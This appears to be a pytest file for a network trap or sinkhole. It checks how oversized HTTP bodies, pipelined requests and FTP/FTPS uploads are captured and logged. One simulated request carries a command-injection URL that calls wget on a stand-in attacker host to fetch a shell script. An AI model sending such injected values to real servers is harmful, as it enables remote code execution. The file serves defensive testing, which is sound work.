"""Uploads and what the trap event keeps of a busy connection, with real
clients against the catch-all trap: HTTP bodies past payload_max (curl, with
Content-Length and chunked), an FTP upload whose client asks for PASV while
its data connection is still open, implicit FTPS (990) where PROT P is
refused and the data connection stays in clear, a data connection opened
with a TLS ClientHello all the same, and eight pipelined requests whose
headers would not fit one event."""

import os
import re
import ssl
import time

import harness
from trapenv import TRAP_IP, sha256

PAYLOAD_MAX = 1 << 20
TRAP_CONF = {"trap": {"payload_max": "1M", "read_timeout": "5s", "rate_per_source": "100000"}}


def read_reply(s, code):
    """Lines from a control connection up to the final reply with this code."""
    buf = b""
    while True:
        chunk = s.recv(4096)
        assert chunk, f"closed before a {code} reply; got {buf!r}"
        buf += chunk
        for line in buf.split(b"\r\n"):
            if line.startswith(code.encode() + b" "):
                return buf.decode(errors="replace")


def uploads(env, since, port=None, addr=None):
    """fileinfo events of one connection (FTP: its control connection)."""
    return [e for e in env.events(since, "fileinfo")
            if (port is None or e["src_port"] == port) and (addr is None or e["dest_ip"] == addr)]


# ---------------------------------------------------------------- HTTP bodies past payload_max


def check_big_body(env, ev, mark, body, name):
    """The first payload_max bytes kept and marked truncated, the real length
    reported, the answer a 413 once the body was read."""
    assert ev["trap"]["end"] != "max_bytes", ev["trap"]
    assert ev["http"]["status"] == 413, ev["http"]
    assert ev["http"]["request_body_length"] == len(body), ev["http"]
    shas = ev["trap"].get("payloads", [])
    assert len(shas) == 1, ev["trap"]
    fi = env.fileinfo(shas[0], since=mark)["fileinfo"]
    assert fi["kind"] == "http_request_body"
    assert fi["filename"] == name
    assert fi["size"] == PAYLOAD_MAX
    assert fi["truncated"] is True
    assert env.payload_path(shas[0]).read_bytes() == body[:PAYLOAD_MAX]


def test_http_upload_past_payload_max_with_content_length(env):
    addr = env.resolve("bigput.evil.example")
    body = b"MZ" + bytes(range(256)) * ((3 << 20) // 256)
    f = env.dir / "big.exe"
    f.write_bytes(body)
    for args, name in ((["-T", str(f)], "big.exe"),  # PUT, Expect: 100-continue
                       (["--data-binary", f"@{f}"], "post.exe")):
        mark = env.mark()
        r = env.curl(*args, f"http://{addr}/upload/{name}", "-o", "/dev/null",
                     "-w", "%{http_code} %{size_upload} %{local_port}")
        code, sent, lport = r.stdout.split()
        assert code == "413", r.stderr
        assert int(float(sent)) == len(body), "curl did not send the whole body"
        ev = env.wait_trap(dest_ip=addr, src_port=int(lport), since=mark)[0]
        check_big_body(env, ev, mark, body, name)


def test_http_chunked_upload_past_payload_max(env):
    addr = env.resolve("bigchunk.evil.example")
    body = b"\x7fELF" + b"B" * ((3 << 20) - 4)
    f = env.dir / "malware.bin"
    f.write_bytes(body)
    mark = env.mark()
    r = env.curl("-H", "Transfer-Encoding: chunked", "--data-binary", f"@{f}",
                 f"http://{addr}/upload/malware.bin", "-o", "/dev/null",
                 "-w", "%{http_code} %{local_port}")
    code, lport = r.stdout.split()
    assert code == "413", r.stderr
    ev = env.wait_trap(dest_ip=addr, src_port=int(lport), since=mark)[0]
    check_big_body(env, ev, mark, body, "malware.bin")


# ---------------------------------------------------------------- the event of a busy HTTP connection


def test_http_event_keeps_every_request_within_the_record(env):
    """Four requests of 32 large headers, then the one that matters: every
    request is in the event with its line, Host and User-Agent; no header
    is shown without its value; what was not kept is counted."""
    addr = env.resolve("padding.evil.example")
    pad = ("GET /pad HTTP/1.1\r\nHost: x\r\n"
           + "".join(f"X-P{i:02d}: {'A' * 510}\r\n" for i in range(31)) + "\r\n")
    real = ("POST /cgi-bin/EXPLOIT.cgi?cmd=wget+http://evil.example/x.sh HTTP/1.1\r\n"
            "Host: victim\r\nUser-Agent: EVILBOT\r\nContent-Length: 5\r\n"
            "Connection: close\r\n\r\nHELLO")
    mark = env.mark()
    s = env.tcp(addr, 80, timeout=10)
    port = s.getsockname()[1]
    s.sendall((pad * 4 + real).encode())
    while s.recv(65536):
        pass
    s.close()
    ev = env.wait_trap(dest_ip=addr, src_port=port, since=mark)[0]
    reqs = ev["http_requests"]
    assert len(reqs) == 5, [r.get("url") for r in reqs]
    last = reqs[4]
    assert last["url"] == "/cgi-bin/EXPLOIT.cgi?cmd=wget+http://evil.example/x.sh"
    assert last["http_method"] == "POST"
    assert last["hostname"] == "victim"
    assert last["http_user_agent"] == "EVILBOT"
    assert last["request_body_length"] == 5
    for r in [ev["http"]] + reqs:
        assert r["url"] and r["hostname"] and r["status"] == 200
        for h in r.get("request_headers", []):
            assert "name" in h and "value" in h, h
    assert sum(r.get("headers_truncated", 0) for r in reqs) > 0
    assert env.fileinfo(sha256(b"HELLO"), since=mark)["src_port"] == port


# ---------------------------------------------------------------- FTP


def ftp_login(env, addr, port=21):
    c = env.tcp(addr, port, timeout=8)
    read_reply(c, "220")
    c.sendall(b"USER a\r\n")
    read_reply(c, "331")
    c.sendall(b"PASS b\r\n")
    read_reply(c, "230")
    return c


def pasv(env, c, addr):
    c.sendall(b"PASV\r\n")
    m = re.search(r"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", read_reply(c, "227"))
    return int(m.group(5)) * 256 + int(m.group(6))


def test_ftp_pasv_while_an_upload_is_open_keeps_the_upload(env):
    """STOR, bytes, then PASV (and more bytes) before the data connection is
    closed: the upload is stored whole under its name."""
    addr = env.resolve("ftppasv.evil.example")
    part1 = b"\x7fELF" + b"MALWARE-UPLOAD " * 1000
    part2 = b"after the second PASV " * 100
    mark = env.mark()
    c = ftp_login(env, addr)
    cport = c.getsockname()[1]
    d = env.tcp(addr, pasv(env, c, addr), timeout=8)
    c.sendall(b"STOR dropper.elf\r\n")
    read_reply(c, "150")
    d.sendall(part1)
    time.sleep(0.5)
    pasv(env, c, addr)  # a second passive request while the upload is open
    d.sendall(part2)
    time.sleep(0.3)
    d.close()
    time.sleep(0.3)
    c.sendall(b"QUIT\r\n")
    read_reply(c, "221")
    c.close()
    ev = env.wait_trap(dest_ip=addr, src_port=cport, since=mark)[0]
    assert ev["ftp"]["stor"] == ["dropper.elf"]
    fi = env.fileinfo(sha256(part1 + part2), since=mark)
    assert fi["fileinfo"]["kind"] == "ftp_upload"
    assert fi["fileinfo"]["filename"] == "dropper.elf"
    assert fi["fileinfo"]["size"] == len(part1 + part2)
    assert fi["fileinfo"]["truncated"] is False
    assert [u["fileinfo"]["sha256"] for u in uploads(env, mark, cport)] == [sha256(part1 + part2)]


def test_ftps_prot_p_is_refused_and_the_upload_goes_in_clear(env):
    """curl on implicit FTPS (990): PROT P is refused (536), curl goes on with
    a clear data connection, and the file stored is the file."""
    addr = env.resolve("ftps.evil.example")
    data = bytes(range(256)) * 20
    f = env.dir / "up.bin"
    f.write_bytes(data)
    mark = env.mark()
    r = env.curl("-k", "-T", str(f), "--user", "a:b", f"ftps://{addr}:990/up.bin")
    assert r.returncode == 0, r.stderr
    ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == 990)[0]
    assert ev["trap"]["tls"] is True
    assert "PROT P" in ev["ftp"]["command"]
    got = uploads(env, mark, addr=addr)
    assert [u["fileinfo"]["sha256"] for u in got] == [sha256(data)], got
    assert env.payload_path(sha256(data)).read_bytes() == data

    # a client that needs the data protected gives up before any transfer
    mark = env.mark()
    r = env.curl("-k", "--ssl-reqd", "-T", str(f), "--user", "a:b",
                 f"ftps://{addr}:990/up2.bin")
    assert r.returncode == 64, (r.returncode, r.stderr)  # CURLE_USE_SSL_FAILED
    ev = env.wait_trap(dest_ip=addr, since=mark, pred=lambda e: e["dest_port"] == 990)[0]
    assert "PROT P" in ev["ftp"]["command"]
    assert uploads(env, mark, addr=addr) == []


def client_hello(host):
    """The first flight of a TLS client (Python's ssl), as bytes."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, outg = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(inc, outg, server_hostname=host)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outg.read()
    assert hello[:1] == b"\x16" and hello[5:6] == b"\x01"
    return hello


def test_ftps_tls_hello_on_the_data_connection_is_not_the_file(env):
    """A client that opens TLS on the data connection although PROT P was
    refused: its ClientHello is not stored as the upload; a later clear
    upload on the same session is."""
    addr = env.resolve("ftpsdata.evil.example")
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    mark = env.mark()
    raw = env.tcp(addr, 990, timeout=8)
    c = ctx.wrap_socket(raw, server_hostname="ftpsdata.evil.example")
    cport = c.getsockname()[1]
    read_reply(c, "220")
    for cmd, code in ((b"USER a", "331"), (b"PASS b", "230"), (b"PBSZ 0", "200")):
        c.sendall(cmd + b"\r\n")
        read_reply(c, code)
    c.sendall(b"PROT P\r\n")
    assert read_reply(c, "536").startswith("536")
    c.sendall(b"FEAT\r\n")
    feat = read_reply(c, "211")
    assert " PROT" not in feat and " PBSZ" not in feat, feat

    d = env.tcp(addr, pasv(env, c, addr), timeout=8)
    c.sendall(b"STOR up.bin\r\n")
    read_reply(c, "150")
    hello = client_hello("ftpsdata.evil.example")
    d.sendall(hello)
    time.sleep(0.3)
    d.close()
    read_reply(c, "426")

    data = b"clear upload after the refused handshake\n" * 50
    d = env.tcp(addr, pasv(env, c, addr), timeout=8)
    c.sendall(b"STOR up.bin\r\n")
    read_reply(c, "150")
    d.sendall(data)
    d.close()
    read_reply(c, "226")
    c.sendall(b"QUIT\r\n")
    read_reply(c, "221")
    c.close()
    ev = env.wait_trap(dest_ip=addr, src_port=cport, since=mark)[0]
    assert ev["ftp"]["data_tls"] == 1, ev["ftp"]
    got = harness.wait_until(lambda: len(uploads(env, mark, cport)) == 2 and
                             uploads(env, mark, cport), 10, what="the upload")
    # the file is the upload in clear; the handshake is kept as what it is
    by_kind = {u["fileinfo"]["kind"]: u["fileinfo"] for u in got}
    assert by_kind["ftp_upload"]["sha256"] == sha256(data), got
    assert by_kind["ftp_data_tls"]["sha256"] == sha256(hello), got
    assert by_kind["ftp_data_tls"].get("filename") is None


def test_ftp_upload_after_hundreds_of_waiting_passive_sessions(env):
    """300 FTP sessions wait for their passive data connection (which, under the
    catch-all, reaches the redirect listener and is matched to its session); the
    last one's upload is still stored as an FTP upload under its name. Before, the
    trap kept 256 waiting sessions: the 257th's data connection was an unrelated
    connection, its upload cut at 64 KiB as raw bytes."""
    addr = env.resolve("ftpmany.evil.example")
    data = b"\x7fELF" + os.urandom(200 << 10)
    mark = env.mark()
    held = []
    try:
        for _ in range(300):
            c = ftp_login(env, addr)
            held.append((c, pasv(env, c, addr)))
        c, port = held[-1]
        cport = c.getsockname()[1]
        d = env.tcp(addr, port, timeout=8)
        c.sendall(b"STOR many.elf\r\n")
        read_reply(c, "150")
        d.sendall(data)
        d.close()
        read_reply(c, "226")
        fi = env.fileinfo(sha256(data), since=mark)
        assert fi["fileinfo"]["kind"] == "ftp_upload", fi
        assert fi["fileinfo"]["filename"] == "many.elf"
        assert fi["src_port"] == cport
    finally:
        for c, _ in held:
            c.close()


def test_upload_to_the_listen_address_names_its_host(env):
    """A POST to the trap's own address (no sinkhole mapping tells its domain) with
    a Host header: the fileinfo event names the domain from the Host, as the trap
    event does. Before, the domain was worked out only for the trap event, at the
    end, after the fileinfo events had gone."""
    body = os.urandom(64)
    req = (f"POST /gate.php HTTP/1.1\r\nHost: c2.upload-host.example\r\n"
           f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode() + body
    mark = env.mark()
    s = env.tcp(TRAP_IP, 80, timeout=10)
    port = s.getsockname()[1]
    s.sendall(req)
    while s.recv(65536):
        pass
    s.close()
    ev = env.wait_trap(dest_ip=TRAP_IP, src_port=port, since=mark)[0]
    assert ev["trap"]["domain"] == "c2.upload-host.example"
    assert ev["trap"]["domain_source"] == "http_host"
    fi = env.fileinfo(sha256(body), since=mark)
    assert fi["fileinfo"]["domain"] == "c2.upload-host.example", fi
